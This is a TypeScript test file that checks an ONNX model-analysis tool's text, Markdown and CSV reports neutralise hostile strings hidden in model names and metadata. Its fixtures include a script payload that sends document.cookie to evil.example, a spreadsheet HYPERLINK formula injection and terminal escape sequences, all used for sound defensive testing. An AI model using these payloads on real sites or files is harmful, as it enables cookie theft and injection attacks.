/**
 * Hostile strings in a model (issue 7): node names, metadata and graph names with HTML/JS, newlines, terminal
 * escape sequences, bidi overrides, 1 MB strings and invalid UTF-8 go through the reader and every text output of
 * the engine (summary, cost and estimate reports as table, Markdown and CSV). The table keeps one line per layer
 * and clips; CSV round-trips every field through an RFC 4180 parser; Markdown keeps one row per layer, its cells
 * split where ours do, and no raw HTML outside code spans.
 */

import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { analyzeModel } from '../../src/core/analysis/cost.js';
import { decodeModel, encodeModel, type Model } from '../../src/core/onnx/index.js';
import { mobileNetLike } from '../../src/core/onnx/syntheticModels.js';
import { formatCostCsv, formatCostMarkdown, formatCostTable } from '../../src/core/report/costReport.js';
import {
  formatEstimateCsv,
  formatEstimateMarkdown,
  formatEstimateTable,
} from '../../src/core/report/estimateReport.js';
import { clipText, csvField, markdownCode, markdownText, terminalText } from '../../src/core/report/safeText.js';
import { formatSummaryText, summarizeModel } from '../../src/core/report/summary.js';
import { builtinProfile } from '../../src/core/targets/builtinProfiles.js';
import { estimateModel } from '../../src/core/targets/estimate.js';

const MB = 1 << 20;
const INVALID_MARK = 'INVALID-UTF8-GOES-HERE';
const hostile = {
  html: '<script>fetch("https://evil.example/"+document.cookie)</script><img src=x onerror=alert(1)>',
  rows: 'a\nb | fake | row |\r\n| --- |',
  escape: '\u001b[2J\u001b]0;pwned\u0007title\u001b[31mred',
  bidi: 'conv\u202Eexe.gnp\u202C\u2066isolated\u2069\u200F',
  huge: 'x'.repeat(MB),
  backticks: '``a`b|c``',
  formula: '=HYPERLINK("http://evil.example","click")',
  invalid: INVALID_MARK,
};

/** mobileNetLike with hostile node names, metadata, graph name and doc string; invalid UTF-8 patched in as bytes. */
function hostileModelBytes(): Uint8Array {
  const m: Model = mobileNetLike({ width: 8, blocks: 2 });
  const names = Object.values(hostile);
  m.graph.nodes.forEach((n, i) => {
    if (i < names.length) n.name = names[i];
  });
  m.graph.name = `graph ${hostile.html} ${hostile.rows}`;
  m.producerName = hostile.bidi;
  m.docString = hostile.huge;
  m.metadataProps = [
    { key: hostile.rows, value: hostile.html },
    { key: 'big', value: hostile.huge },
    { key: 'lib', value: hostile.escape },
    { key: 'bytes', value: INVALID_MARK },
  ];
  const bytes = encodeModel(m);
  // Replace the marker's bytes with as many bytes that are not UTF-8: stray continuation bytes, an overlong
  // encoding, a truncated sequence, a surrogate encoded in UTF-8, 0xFF.
  const mark = Buffer.from(INVALID_MARK);
  const bad = Buffer.from([
    0x80, 0xbf, 0xc0, 0xaf, 0xe0, 0x80, 0xaf, 0xed, 0xa0, 0x80, 0xff, 0xfe, 0xf8, 0x88, 0x80, 0x80, 0x80, 0x41, 0xc3,
    0x28, 0xe2, 0x82,
  ]);
  assert.equal(bad.length, mark.length, 'same length, so no length prefix changes');
  const view = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.length);
  let patched = 0;
  for (let at = view.indexOf(mark); at >= 0; at = view.indexOf(mark, at + 1)) {
    bad.copy(view, at);
    patched++;
  }
  assert.equal(patched, 2, 'the marker is in the encoded model twice (a node name, a metadata value)');
  return bytes;
}

/** RFC 4180 parser: fields may be quoted, quotes doubled, line breaks inside quotes. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += c;
  }
  row.push(field);
  rows.push(row);
  return rows;
}

/** Characters that must never reach a terminal or a Markdown file from model text. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters
const dangerous = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/;
const loneSurrogate = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

/** Splits a Markdown table row at the pipes that separate cells (not `\|`, not inside a code span fence). */
function markdownCells(line: string): string[] {
  const cells: string[] = [];
  let cur = '';
  let fence = 0;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (c === '\\' && i + 1 < line.length) {
      cur += c + line[++i];
      continue;
    }
    if (c === '`') {
      let n = 0;
      while (line[i + n] === '`') n++;
      if (fence === 0) fence = n;
      else if (fence === n) fence = 0;
      cur += line.slice(i, i + n);
      i += n - 1;
      continue;
    }
    if (c === '|' && fence === 0) {
      cells.push(cur);
      cur = '';
    } else cur += c;
  }
  cells.push(cur);
  return cells.slice(1, -1).map((s) => s.trim());
}

/** Markdown text outside code spans, where raw HTML would be rendered. */
function outsideCodeSpans(line: string): string {
  return line.replace(/(`+)(?:(?!\1)[\s\S])*?\1/g, '');
}

describe('hostile strings in every text output', () => {
  const bytes = hostileModelBytes();
  const model = decodeModel(bytes, { fileName: 'hostile.onnx' });
  const { profile, facts } = analyzeModel(model);
  const target = builtinProfile('cortex-m7');
  assert.ok(target, 'cortex-m7 profile');
  const est = estimateModel(model, profile, facts, target);
  const layers = profile.layers.filter((l) => !l.folded);

  test('the reader turns invalid UTF-8 into U+FFFD, never into lone surrogates', () => {
    const node = model.graph.nodes.find((n) => n.name.includes('\ufffd'));
    assert.ok(node, 'the patched name decoded with replacement characters');
    assert.ok(!loneSurrogate.test(node.name), 'no lone surrogates');
    assert.ok(!node.name.includes(INVALID_MARK), 'the marker was replaced');
  });

  const textOutputs: [string, () => string][] = [
    ['summary', () => formatSummaryText(summarizeModel(model, [], { path: 'hostile.onnx', bytes: bytes.length }))],
    ['cost table', () => formatCostTable(profile, { file: 'hostile.onnx' })],
    ['estimate table', () => formatEstimateTable(profile, est, { file: 'hostile.onnx' })],
  ];
  for (const [label, render] of textOutputs) {
    test(`${label}: inert, one line per entry, clipped`, () => {
      const start = performance.now();
      const out = render();
      const ms = performance.now() - start;
      assert.ok(ms < 2000, `${label} took ${ms.toFixed(0)} ms with a 1 MB name`);
      assert.ok(!dangerous.test(out), `${label}: no control or bidi characters`);
      assert.ok(!loneSurrogate.test(out), `${label}: no lone surrogates`);
      assert.ok(out.length < 60_000, `${label}: ${out.length} characters for a model with 1 MB strings`);
      const lines = out.split('\n');
      assert.ok(Math.max(...lines.map((l) => l.length)) <= 2001, `${label}: every line clipped`);
      assert.ok(out.includes('\\u{202E}'), `${label}: the bidi override is shown as an escape`);
      assert.ok(out.includes('…'), `${label}: clipped text is marked`);
      assert.ok(out.includes('\ufffd'), `${label}: invalid UTF-8 shows as U+FFFD`);
      if (label !== 'summary') {
        // Between the two rules: exactly one line per layer, in order.
        const rules = lines.flatMap((l, i) => (/^-+( {2}-+)+$/.test(l) ? [i] : []));
        assert.equal(rules.length, 2, `${label}: the table's two rules`);
        assert.equal(rules[1] - rules[0] - 1, layers.length, `${label}: one line per layer`);
        const cell = lines.slice(rules[0] + 1, rules[1]).find((l) => l.includes('fake'));
        assert.ok(cell?.includes('a\\nb | fake'), `${label}: the newline in a name is shown as \\n: ${cell}`);
      } else {
        assert.ok(out.includes('Metadata:   a\\nb | fake'), 'metadata key shown on one line');
        assert.equal(out.split('\n').filter((l) => l.startsWith('Metadata:')).length, 4, 'four metadata lines');
      }
    });
  }

  const markdownOutputs: [string, () => string, number][] = [
    ['cost markdown', () => formatCostMarkdown(profile), 7],
    ['estimate markdown', () => formatEstimateMarkdown(profile, est), 12],
  ];
  for (const [label, render, columns] of markdownOutputs) {
    test(`${label}: one row per layer, cells intact, no HTML outside code spans`, () => {
      const out = render();
      assert.ok(!dangerous.test(out), `${label}: no control or bidi characters`);
      const rows = out.split('\n').filter((l) => l.startsWith('|'));
      assert.equal(rows.length, layers.length + 3, `${label}: header, separator, a row per layer, total`);
      for (const r of rows) assert.equal(markdownCells(r).length, columns, `${label}: ${columns} cells in ${r}`);
      for (const line of out.split('\n')) {
        assert.ok(!/<[a-z/!?]/i.test(outsideCodeSpans(line)), `${label}: raw HTML outside a code span: ${line}`);
      }
      const nameCells = rows.slice(2, -1).map((r) => markdownCells(r)[columns === 7 ? 0 : 1]);
      for (const c of nameCells) {
        const fence = /^`+/.exec(c)?.[0];
        assert.ok(fence && c.endsWith(fence), `${label}: the name is one code span: ${c}`);
      }
      assert.ok(
        nameCells.some((c) => c.startsWith('```') && c.includes('``a`b\\|c``')),
        'a name with backticks gets a longer fence',
      );
      assert.ok(out.includes('&lt;script&gt;'), `${label}: HTML in the graph name is escaped in the heading`);
    });
  }

  const csvOutputs: [string, () => string][] = [
    ['cost csv', () => formatCostCsv(profile)],
    ['estimate csv', () => formatEstimateCsv(profile, est)],
  ];
  for (const [label, render] of csvOutputs) {
    test(`${label}: every field round-trips, formulas neutralised`, () => {
      const rows = parseCsv(render());
      const width = rows[0].length;
      assert.equal(rows.length, profile.layers.length + 1, `${label}: header + one record per layer`);
      for (const r of rows) assert.equal(r.length, width, `${label}: every record has ${width} fields`);
      const names = rows.slice(1).map((r) => r[1]);
      for (const [key, value] of Object.entries(hostile)) {
        if (key === 'invalid') continue;
        const want = key === 'formula' ? `'${value}` : value;
        assert.ok(names.includes(want), `${label}: the ${key} name round-trips exactly`);
      }
    });
  }
});

describe('safeText helpers', () => {
  test('clipText counts code points and never splits a pair', () => {
    assert.equal(clipText('abcdef', 4), 'abc…');
    assert.equal(clipText('abcd', 4), 'abcd');
    assert.equal(clipText('a😀😀😀', 3), 'a😀…');
    assert.equal(clipText('ab😀', 3), 'ab😀', 'three code points fit in three');
  });
  test('terminalText escapes controls, keeps ordinary text, and costs little on huge strings', () => {
    assert.equal(terminalText('conv_1/weights:0 — ünïcode 中文'), 'conv_1/weights:0 — ünïcode 中文');
    assert.equal(terminalText('a\tb\nc\u001b[0m'), 'a\\tb\\nc\\u{001B}[0m');
    assert.equal(terminalText('\udc00x\ud800'), '\ufffdx\ufffd');
    const big = 'é'.repeat(50 * MB);
    assert.equal(big.indexOf('x'), -1, 'flattened before timing');
    const start = performance.now();
    assert.equal(terminalText(big, 10), `${'é'.repeat(9)}…`);
    assert.ok(performance.now() - start < 50, 'only a prefix is looked at');
  });
  test('markdown escaping', () => {
    assert.equal(
      markdownText('<b>x</b> | *y* _z_ [l](javascript:x) &amp;'),
      '&lt;b&gt;x&lt;/b&gt; \\| \\*y\\* \\_z\\_ \\[l\\](javascript:x) &amp;amp;',
    );
    assert.equal(markdownCode('a|b'), '`a\\|b`');
    assert.equal(markdownCode('`x`'), '`` `x` ``');
    assert.equal(markdownCode(''), '');
  });
  test('CSV fields', () => {
    assert.equal(csvField('plain'), 'plain');
    assert.equal(csvField('a,b'), '"a,b"');
    assert.equal(csvField('say "hi"'), '"say ""hi"""');
    assert.equal(csvField('two\nlines'), '"two\nlines"');
    assert.equal(csvField('@SUM(A1)'), "'@SUM(A1)");
    assert.equal(csvField('-2.5e3'), '-2.5e3', 'a number in a string is left alone');
    assert.equal(csvField(-3), '-3');
    assert.equal(csvField(null), '');
  });
});
